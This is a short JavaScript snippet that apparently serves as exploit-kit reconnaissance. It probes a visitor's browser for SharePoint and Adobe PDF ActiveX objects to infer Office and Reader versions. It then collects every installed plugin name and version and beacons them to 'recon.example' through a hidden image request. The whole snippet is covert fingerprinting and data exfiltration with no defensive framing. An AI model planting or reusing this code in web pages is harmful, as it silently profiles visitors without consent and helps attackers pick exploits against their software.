var v = [1, 1, 1];
try { v[0] = new ActiveXObject('SharePoint.OpenDocuments.4'); } catch (e) {}
try { v[1] = new ActiveXObject('SharePoint.OpenDocuments.3'); } catch (e) {}
try { v[2] = new ActiveXObject('AcroPDF.PDF'); } catch (e) {}
var what = typeof v[0] == 'object' ? 'o14' : typeof v[1] == 'object' ? 'o12' : 'none';
if (typeof v[2] == 'object') what += ',pdf';
for (var i = 0, pl = ''; i < navigator.plugins.length; i++) pl += navigator.plugins[i].name + ' ' + navigator.plugins[i].version + ';';
new Image().src = 'http://recon.example/p.php?o=' + encodeURI(what) + '&pl=' + encodeURIComponent(pl);
